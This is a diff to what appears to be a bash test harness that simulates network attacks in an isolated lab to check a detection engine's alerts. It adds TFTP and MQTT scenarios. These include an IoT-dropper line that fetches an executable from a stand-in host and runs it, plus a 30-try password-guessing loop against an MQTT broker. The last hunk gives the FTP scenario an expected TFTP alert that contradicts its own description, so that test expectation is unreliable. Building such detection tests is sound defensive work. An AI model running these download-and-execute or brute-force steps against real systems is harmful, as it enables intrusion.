@@ -45,7 +45,7 @@ readonly LDAP_BASE="dc=lab,dc=example"
 
 readonly ALL_SCENARIOS=(scan-syn scan-connect scan-stealth scan-udp scan-grid sweep-445 arp-scan nd-scan dhcp-rogue dhcp-flood dhcp-flip
   dns-flood dns-tunnel dns-tunnel-short ldap-enum ldap-sealed ssh-brute ssh-hydra smb-internet smb-files lateral new-device benign intel web-variants ipv6 beacon mcast-ping
-  name-poisoning arp-spoof icmp-tunnel nd-spoof rogue-ra admin-share exe-download exfil-upload ntlm-relay ntlm-relay-far ldap-recon crypto-mining cleartext-login form-login form-brute snmp mail-fetch mail-imap mail-upload ftp-files mail-files mail-out intel-direct form-spray ws-tunnel socks external-proxy doh overpass ping-sweep named-pipe sip redis)
+  name-poisoning arp-spoof icmp-tunnel nd-spoof rogue-ra admin-share exe-download exfil-upload ntlm-relay ntlm-relay-far ldap-recon crypto-mining cleartext-login form-login form-brute snmp mail-fetch mail-imap mail-upload ftp-files mail-files mail-out intel-direct form-spray ws-tunnel socks external-proxy doh overpass ping-sweep named-pipe sip redis tftp mqtt)
 
 # Addresses a capture may contain (anything else means a leak and fails the scenario).
 readonly SAFE_NETS=(net:10.77.0.0/16 net:198.51.100.0/24 net:203.0.113.0/24 net:192.0.2.0/24
@@ -112,7 +112,7 @@ install_tools() {
     slapd:slapd ldapsearch:ldap-utils sshd:openssh-server ssh:openssh-client sshpass:sshpass hydra:hydra \
     arpspoof:dsniff atk6-parasite6:thc-ipv6 smbclient:smbclient smbd:samba nmbd:samba nmblookup:samba-common-bin python3:python3 ncat:ncat nc:netcat-openbsd curl:curl tcpdump:tcpdump \
     vsftpd:vsftpd aiosmtpd:python3-aiosmtpd busybox:busybox ethtool:ethtool ping:iputils-ping openssl:openssl impacket-rpcdump:python3-impacket \
-    snmpd:snmpd snmpget:snmp onesixtyone:onesixtyone dovecot:dovecot-imapd microsocks:microsocks dnsdist:dnsdist krb5kdc:krb5-kdc kadmin.local:krb5-admin-server kinit:krb5-user kamailio:kamailio svwar:sipvicious sipsak:sipsak redis-server:redis-server redis-cli:redis-tools; do
+    snmpd:snmpd snmpget:snmp onesixtyone:onesixtyone dovecot:dovecot-imapd microsocks:microsocks dnsdist:dnsdist krb5kdc:krb5-kdc kadmin.local:krb5-admin-server kinit:krb5-user kamailio:kamailio svwar:sipvicious sipsak:sipsak redis-server:redis-server redis-cli:redis-tools in.tftpd:tftpd-hpa tftp:tftp-hpa mosquitto:mosquitto mosquitto_pub:mosquitto-clients; do
     cmd=${pair%%:*}; pkg=${pair#*:}
     command -v "$cmd" >/dev/null 2>&1 || [ -x "/usr/sbin/$cmd" ] || need+=("$pkg")
   done
@@ -1817,6 +1817,75 @@ EOF2
   "allow": ["device.new"]'
 }
 
+scenario_tftp() {
+  # tftpd-hpa on the Internet host 198.51.100.10 serves what an IoT dropper fetches (a shell script and
+  # a Linux program of the lab's own making); on the server 10.77.1.10 it takes configuration backups.
+  mkdir -p "$WORK/tftp-inet" "$WORK/tftp-srv"
+  printf '#!/bin/sh\ncd /tmp && tftp -g -r mips 198.51.100.10 && chmod +x mips && ./mips\n' >"$WORK/tftp-inet/bins.sh"
+  python3 -c '
+import struct, sys
+b = bytearray(3000)
+b[0:16] = b"\x7fELF\x01\x02\x01\x00" + bytes(8)
+b[16:20] = struct.pack(">HH", 2, 8)
+for i in range(64, 3000): b[i] = (i * 7) & 0xff
+open(sys.argv[1], "wb").write(b)' "$WORK/tftp-inet/mips"
+  chmod 644 "$WORK/tftp-inet/"*
+  chmod 777 "$WORK/tftp-srv"
+  scen_bg inet in.tftpd -L -u root -a 198.51.100.10:69 -s "$WORK/tftp-inet"
+  scen_bg srv in.tftpd -L -u root -c -a 10.77.1.10:69 -s "$WORK/tftp-srv"
+  wait_listen_udp inet 69 && wait_listen_udp srv 69
+  # The camera 10.77.2.27 runs a dropper's commands with BusyBox tftp: the script, then the program (1,024-byte blocks).
+  nsx ws27 timeout 20 busybox tftp -g -r bins.sh -l "$WORK/ws27-bins.sh" 198.51.100.10 2>/dev/null
+  nsx ws27 timeout 20 busybox tftp -g -b 1024 -r mips -l "$WORK/ws27-mips" 198.51.100.10 2>/dev/null
+  # The router 10.77.2.22 backs up its configuration to the server with tftp-hpa, then asks for a file that is not there.
+  printf 'hostname lab-router\ninterface eth0\n ip address 10.77.2.22 255.255.255.0\n' >"$WORK/router.cfg"
+  (cd "$WORK" && nsx ws22 timeout 20 tftp -m octet 10.77.1.10 -c put router.cfg)
+  (cd "$WORK" && nsx ws22 timeout 20 tftp 10.77.1.10 -c get missing.cfg >/dev/null 2>&1) || true
+  stop_capture
+  cmp -s "$WORK/tftp-inet/mips" "$WORK/ws27-mips" || { log "tftp: the program did not arrive whole"; return 1; }
+  cmp -s "$WORK/router.cfg" "$WORK/tftp-srv/router.cfg" || { log "tftp: the backup did not arrive whole"; return 1; }
+  require tftp 2 "udp dst port 69 and src host 10.77.2.27"
+  require tftp 3 "udp and src host 198.51.100.10 and dst host 10.77.2.27 and not src port 69"
+  require tftp 2 "udp dst port 69 and src host 10.77.2.22"
+  expect tftp "tftpd-hpa 5.2 on the Internet host 198.51.100.10 and on the server 10.77.1.10. The camera 10.77.2.27 fetches a shell script and a 3,000-byte Linux program of the lab's making with BusyBox 1.35 tftp (the program with 1,024-byte blocks, agreed by OACK); the router 10.77.2.22 uploads its configuration to the server with tftp-hpa, then asks for a file that does not exist (error 1). device.new may fire for the server network's hosts, whose first frames these are." \
+    '[{"rule": "tftp.executable_download", "source": {"ip": "10.77.2.27"}, "destination": {"ip": "198.51.100.10", "port": 69}}]' \
+    '  "exclusive": true,
+  "allow": ["device.new"]'
+}
+
+scenario_mqtt() {
+  local i pub="mosquitto_pub -h 10.77.1.10 -p 1883 -t lab/telemetry -m 21.5"
+  # Mosquitto 2.0 on the server 10.77.1.10 with a password file (user sensor); anonymous clients refused.
+  mkdir -p "$WORK/mqtt"
+  : >"$WORK/mqtt/passwd"
+  mosquitto_passwd -b "$WORK/mqtt/passwd" sensor Sensor-Pass-2026
+  cat >"$WORK/mqtt/mosquitto.conf" <<EOF2
+listener 1883 10.77.1.10
+allow_anonymous false
+password_file $WORK/mqtt/passwd
+persistence false
+log_dest stderr
+EOF2
+  scen_bg srv mosquitto -c "$WORK/mqtt/mosquitto.conf"
+  wait_listen srv 1883
+  # The sensor 10.77.2.22 publishes with its password, over MQTT 3.1.1 and 5.0.
+  nsx ws22 timeout 10 $pub -i sensor-22 -u sensor -P Sensor-Pass-2026
+  nsx ws22 timeout 10 $pub -i sensor-22 -u sensor -P Sensor-Pass-2026 -V mqttv5
+  # 10.77.2.23 connects without credentials (refused: not authorized).
+  nsx ws23 timeout 10 $pub -i probe-23 >/dev/null 2>&1 || true
+  # 10.77.2.24 guesses the sensor's password with the stock client: 30 tries, none right.
+  for i in $(seq 1 30); do
+    nsx ws24 timeout 10 $pub -i "guess-$i" -u sensor -P "sensor$i" >/dev/null 2>&1 || true
+  done
+  stop_capture
+  require mqtt 30 "tcp[tcpflags] == tcp-syn and src host 10.77.2.24 and dst port 1883"
+  require mqtt 2 "tcp[tcpflags] == tcp-syn and src host 10.77.2.22 and dst port 1883"
+  expect mqtt "Mosquitto 2.0 on the server 10.77.1.10 with a password file, anonymous clients refused. The sensor 10.77.2.22 publishes with its password over MQTT 3.1.1 and 5.0 (mosquitto_pub); 10.77.2.23 connects without credentials (not authorized); 10.77.2.24 tries 30 wrong passwords for user sensor with mosquitto_pub, one connection each. device.new may fire for the server network's hosts, whose first frames these are." \
+    '[{"rule": "auth.bruteforce", "source": {"ip": "10.77.2.24"}, "destination": {"ip": "10.77.1.10", "port": 1883}, "evidence": {"service": "mqtt", "mode": "failures"}}]' \
+    '  "exclusive": true,
+  "allow": ["device.new"]'
+}
+
 scenario_mail_fetch() {
   # A mailbox on the Internet host, read over plain POP3 (../pop3-server.py): the invoice in it
   # carries the lab's program.
@@ -2281,7 +2350,7 @@ EOF
   require ftp-files 3 "tcp src port 21 and dst host 10.77.2.22 and tcp[tcpflags] & tcp-push != 0"
   require ftp-files 20 "tcp and src host 10.77.2.23 and dst host 198.51.100.10 and not port 21"
   expect ftp-files "Anonymous FTP with vsftpd on the Internet host 198.51.100.10; curl 7.88 clients. A Windows program (the pe_program helper's) /pub/update.exe is fetched by 10.77.2.20 in extended passive mode (EPSV), by 10.77.2.21 in passive mode (PASV) and by 10.77.2.22 in active mode (PORT: the server opens the data channel); 10.77.2.23 uploads it as /incoming/tool.exe (STOR), then lists /pub/ and fetches /pub/README.txt in extended active mode (EPRT). file.bad_hash's tests list the program; with the lab config alone nothing alerts (anonymous FTP sends no password). device.new may fire for the server network's hosts, whose first frames these are." \
-    '[]' \
+    '[{"rule": "tftp.executable_download", "source": {"ip": "10.77.2.27"}, "destination": {"ip": "198.51.100.10", "port": 69}}]' \
     '  "exclusive": true,
   "allow": ["device.new"]'
 }
